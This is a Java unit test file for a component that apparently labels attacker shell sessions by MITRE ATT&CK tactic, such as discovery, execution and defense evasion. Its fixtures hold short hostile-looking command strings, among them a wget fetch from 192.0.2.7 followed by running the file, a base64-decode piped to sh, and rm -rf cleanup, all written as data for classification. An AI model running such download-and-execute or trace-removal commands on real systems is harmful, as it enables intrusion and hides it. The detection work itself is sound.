package org.decnet.engine.score;

import static org.assertj.core.api.Assertions.assertThat;
import static org.decnet.engine.score.StatementLabel.DEFENSE_EVASION;
import static org.decnet.engine.score.StatementLabel.DISCOVERY;
import static org.decnet.engine.score.StatementLabel.EXECUTION;
import static org.decnet.engine.score.StatementLabel.HARMLESS;
import static org.decnet.engine.score.StatementLabel.IMPACT;
import static org.decnet.engine.score.StatementLabel.OTHER;
import static org.decnet.engine.score.StatementLabel.PERSISTENCE;

import java.util.List;
import java.util.stream.Stream;
import org.decnet.model.tag.Tag;
import org.junit.jupiter.api.Test;

/** How tags become labels. */
class LabelMappingTest {
  private static TaggedStatement statement(String text, String... claims) {
    List<Tag> tags =
        Stream.of(claims)
            .map(claim -> Claims.of(claim.substring(0, 6), claim.substring(7)))
            .toList();
    return new TaggedStatement(text, tags);
  }

  private static List<StatementLabel> predict(TaggedStatement... session) {
    return LabelMapping.predict(List.of(session));
  }

  @Test
  void aTagGoesByItsTactic() {
    assertThat(
            predict(
                statement("a ;", "TA0007 T1082"),
                statement("b ;", "TA0003 T1098.004"),
                statement("c ;", "TA0040 T1489"),
                statement("d ;", "TA0005 T1070.003"),
                statement("e ;", "TA0010 T1048"),
                statement("f g ;", "TA0002 T1059.004")))
        .containsExactly(DISCOVERY, PERSISTENCE, IMPACT, DEFENSE_EVASION, OTHER, EXECUTION);
  }

  @Test
  void someTechniquesCountElsewhereThanTheirTacticSays() {
    assertThat(
            predict(
                statement("a ;", "TA0006 T1003.008"),
                statement("b ;", "TA0005 T1222.002"),
                statement("c ;", "TA0040 T1531"),
                statement("d ;", "TA0040 T1498.001"),
                statement("e ;", "TA0005 T1497.001")))
        .containsExactly(DISCOVERY, EXECUTION, PERSISTENCE, OTHER, DISCOVERY);
  }

  @Test
  void aPipelineIsOneStepAndTheRarerIntentionNamesIt() {
    assertThat(
            predict(
                statement("a |", "TA0007 T1082"),
                statement("b |"),
                statement("c ;", "TA0003 T1098"),
                statement("d ;", "TA0007 T1082")))
        .containsExactly(PERSISTENCE, PERSISTENCE, PERSISTENCE, DISCOVERY);
  }

  @Test
  void howSomethingRunsTellsLessThanWhatItIsFor() {
    assertThat(predict(statement("a ;", "TA0002 T1059.008", "TA0007 T1082")))
        .containsExactly(DISCOVERY);
  }

  @Test
  void preparationsBelongToWhatFollowsAndTheRestToWhatWentBefore() {
    assertThat(
            predict(
                statement("a ;", "TA0007 T1082"),
                statement("cd /tmp ;"),
                statement("b ;", "TA0040 T1489"),
                statement("c ;"),
                statement("d &&"),
                statement("e ;", "TA0005 T1070.003"),
                statement("cd / ;")))
        .containsExactly(
            DISCOVERY, IMPACT, IMPACT, IMPACT, DEFENSE_EVASION, DEFENSE_EVASION, DEFENSE_EVASION);
  }

  @Test
  void openingAShellBelongsToWhatIsTypedIntoIt() {
    assertThat(predict(statement("sh ;", "TA0002 T1059.004"), statement("a ;", "TA0007 T1082")))
        .containsExactly(DISCOVERY, DISCOVERY);
    assertThat(predict(statement("./x ;", "TA0002 T1059.004"), statement("a ;", "TA0007 T1082")))
        .containsExactly(EXECUTION, DISCOVERY);
    assertThat(predict(statement("sh ;", "TA0002 T1059.004"))).containsExactly(EXECUTION);
  }

  @Test
  void aFileThatIsBroughtAndNeverRunIsHarmless() {
    TaggedStatement brought = statement("wget http://192.0.2.7/x ;", "TA0011 T1105");
    assertThat(predict(brought)).containsExactly(HARMLESS);
    assertThat(predict(brought, statement("sh x ;"))).containsExactly(EXECUTION, EXECUTION);
    assertThat(predict(brought, statement("/bin/sh x ;"))).containsExactly(EXECUTION, EXECUTION);
    assertThat(predict(brought, statement("/bin/ls x ;"))).containsExactly(HARMLESS, HARMLESS);
    assertThat(predict(brought, statement("/tmp/x ;"))).containsExactly(EXECUTION, EXECUTION);
    assertThat(predict(brought, statement("a ;", "TA0005 T1222.002")))
        .containsExactly(EXECUTION, EXECUTION);
  }

  @Test
  void aProgramThatScpBringsIsMeantToRun() {
    TaggedStatement brought = statement("scp -t /tmp ;", "TA0011 T1105");
    assertThat(predict(brought, statement("C0755 123 name ;")))
        .containsExactly(EXECUTION, EXECUTION);
    assertThat(predict(brought, statement("C0644 123 name ;"))).containsExactly(HARMLESS, HARMLESS);
  }

  @Test
  void aRemovalHidesWhatWasDoneAndMakesRoomForWhatWasNot() {
    TaggedStatement removal = statement("rm -rf /tmp/name ;", "TA0005 T1070.004");
    TaggedStatement stop = statement("a ;", "TA0040 T1489");
    assertThat(predict(removal, stop, removal)).containsExactly(IMPACT, IMPACT, DEFENSE_EVASION);
    assertThat(predict(removal)).containsExactly(DEFENSE_EVASION);
    TaggedStatement hide = statement("b ;", "TA0005 T1070.003");
    assertThat(predict(stop, removal, hide))
        .containsExactly(IMPACT, DEFENSE_EVASION, DEFENSE_EVASION);
  }

  @Test
  void aRemovalBetweenStepsHidesOnlyWhatTheSessionNamed() {
    TaggedStatement look = statement("a ;", "TA0007 T1082");
    TaggedStatement stop = statement("b ;", "TA0040 T1489");
    TaggedStatement removal = statement("rm .s ;", "TA0005 T1070.004");
    assertThat(predict(look, removal, stop)).containsExactly(DISCOVERY, IMPACT, IMPACT);
    assertThat(predict(look, statement("cp x .s ;"), removal, stop))
        .containsExactly(DISCOVERY, DISCOVERY, DEFENSE_EVASION, IMPACT);
  }

  @Test
  void aPipelineThatEndsInAProgramRunsWhatWasBrought() {
    TaggedStatement encoded = statement("echo eA |", "TA0005 T1140");
    TaggedStatement shell = statement("bash ;", "TA0002 T1059");
    assertThat(predict(encoded, shell)).containsExactly(EXECUTION, EXECUTION);
    assertThat(predict(encoded, statement("wc ;"))).containsExactly(HARMLESS, HARMLESS);
  }

  @Test
  void aFileBroughtIntoAFolderOfProgramsIsMeantToRun() {
    assertThat(predict(statement("tee /usr/local/bin/name > /dev/null ;", "TA0011 T1105")))
        .containsExactly(EXECUTION);
    assertThat(predict(statement("tee /usr/local/name ;", "TA0011 T1105")))
        .containsExactly(HARMLESS);
    assertThat(predict(statement("/usr/bin/tee name ;", "TA0011 T1105"))).containsExactly(HARMLESS);
    TaggedStatement brought = statement("wget http://192.0.2.7/x ;", "TA0011 T1105");
    assertThat(predict(brought, statement("ls /usr/bin/x ;", "TA0007 T1083")))
        .containsExactly(HARMLESS, DISCOVERY);
  }

  @Test
  void whoInstallsPackagesMeansToRunWhatIsBrought() {
    TaggedStatement brought = statement("wget http://192.0.2.7/x ;", "TA0011 T1105");
    assertThat(predict(statement("apt-get -y install name ;"), brought))
        .containsExactly(EXECUTION, EXECUTION);
    assertThat(predict(statement("apt-get update ;"), brought)).containsExactly(HARMLESS, HARMLESS);
    assertThat(predict(statement("cat install ;"), brought)).containsExactly(HARMLESS, HARMLESS);
    assertThat(predict(statement("apt install name ;"))).containsExactly(HARMLESS);
  }

  @Test
  void variablesBeforeAProgramAreNotTheProgram() {
    TaggedStatement look = statement("a ;", "TA0007 T1082");
    TaggedStatement stop = statement("b ;", "TA0040 T1489");
    assertThat(predict(look, statement("A=1 B_2=/x cd /tmp ;"), stop))
        .containsExactly(DISCOVERY, IMPACT, IMPACT);
    assertThat(predict(look, statement("a=cd ;"), stop))
        .containsExactly(DISCOVERY, DISCOVERY, IMPACT);
    TaggedStatement brought = statement("wget http://192.0.2.7/x ;", "TA0011 T1105");
    assertThat(predict(brought, statement("A=1 /tmp/x ;"))).containsExactly(EXECUTION, EXECUTION);
    assertThat(predict(brought, statement("A=/tmp/x ;"))).containsExactly(HARMLESS, HARMLESS);
    assertThat(predict(brought, statement("/tmp/x=1 -d ;"))).containsExactly(EXECUTION, EXECUTION);
  }

  @Test
  void whatHandlesAFileBelongsToTheStepThatNamedItFirst() {
    TaggedStatement named = statement("wget http://192.0.2.7/name ;", "TA0011 T1105");
    TaggedStatement look = statement("a ;", "TA0007 T1082");
    assertThat(predict(named, look, statement("tar xf /tmp/name ;"), statement("tar xf other ;")))
        .containsExactly(HARMLESS, DISCOVERY, HARMLESS, DISCOVERY);
    TaggedStatement probe = statement("echo 1 > /tmp/name ;", "TA0007 T1083");
    assertThat(predict(probe, statement("rm /tmp/name ;", "TA0005 T1070.004")))
        .containsExactly(DISCOVERY, DISCOVERY);
  }

  @Test
  void whatDecodedCodeWouldDoIsRunning() {
    TaggedStatement run =
        new TaggedStatement("sh ;", List.of(Claims.decoded("TA0003", "T1098.004")));
    assertThat(predict(statement("echo eA |"), statement("base64 -d |"), run))
        .containsOnly(EXECUTION);
  }

  @Test
  void decodedChannelOfCommandServesAnotherStep() {
    assertThat(predict(decoded("TA0011", "T1071"))).containsOnly(OTHER);
    assertThat(predict(decoded("TA0011", "T1105"))).containsOnly(EXECUTION);
    assertThat(predict(decoded("TA0010", "T1048"))).containsOnly(EXECUTION);
  }

  private static TaggedStatement decoded(String tactic, String technique) {
    return new TaggedStatement("perl ;", List.of(Claims.decoded(tactic, technique)));
  }

  @Test
  void textOfAPromptIsHarmless() {
    assertThat(predict(statement("a ;", "TA0007 T1082"), statement("New password: ;")))
        .containsExactly(DISCOVERY, HARMLESS);
  }

  @Test
  void withoutAnyTagEverythingIsHarmless() {
    assertThat(predict(statement("cd /tmp ;"), statement("a |"), statement("b")))
        .containsExactly(HARMLESS, HARMLESS, HARMLESS);
    assertThat(predict()).isEmpty();
  }

  @Test
  void manyRemovalsInARowTakeNoLongerThanAnythingElse() {
    List<TaggedStatement> session = new java.util.ArrayList<>();
    for (int i = 0; i < 20_000; i++) {
      session.add(statement("rm x" + i + " ;", "TA0005 T1070.004"));
    }
    assertThat(LabelMapping.predict(session)).hasSize(20_000).containsOnly(DEFENSE_EVASION);
    session.add(statement("a ;", "TA0040 T1489"));
    assertThat(LabelMapping.predict(session)).hasSize(20_001).containsOnly(IMPACT);
  }
}
